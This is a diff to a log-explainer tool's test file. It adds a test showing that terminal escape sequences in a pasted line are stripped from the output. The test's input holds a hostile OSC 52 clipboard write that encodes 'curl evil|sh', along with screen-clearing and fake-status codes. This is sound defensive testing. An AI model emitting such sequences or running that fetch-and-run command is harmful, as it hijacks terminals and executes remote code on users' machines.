@@ -110,6 +110,21 @@ test('stdin mode reads a whole log excerpt', async () => {
 	assert.deepEqual(ids.sort(), ['basic-auth-blocked', 'host-not-found']);
 });
 
+test('a pasted line with terminal colours and a hostile escape is explained as without them, and printed clean', async () => {
+	// What a coloured log viewer copies, and what a hostile server could have put into its reply (found by the fuzz
+	// suite: the raw line used to reach the terminal as it was).
+	const pasted = `\x1b[31mERROR\x1b[0m ${TENANT_OFF} \x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\u009b1;32m✓ fixed`;
+	const plain = await run([TENANT_OFF, '--format', 'json']);
+	const coloured = await run(['-', '--format', 'json'], pasted);
+	const ids = (r: Run) => (JSON.parse(r.stdout) as { matches: { id: string }[] }).matches.map((m) => m.id);
+	assert.deepEqual(ids(coloured), ids(plain));
+	const text = await run(['-'], pasted);
+	assert.equal(text.code, 0);
+	// eslint-disable-next-line no-control-regex -- finding control characters is the point
+	assert.doesNotMatch(text.stdout + coloured.stdout, /[\x00-\x08\x0b-\x1f\x7f-\x9f]|\\u001b|\\u009b/);
+	assert.match(text.stdout, /: ERROR 535 5\.7\.139 .* ✓ fixed\n/);
+});
+
 test('nothing recognised: exit 1 with an empty list or a hint', async () => {
 	const json = await run(['all good, 12 messages imported', '--format', 'json']);
 	assert.equal(json.code, 1);
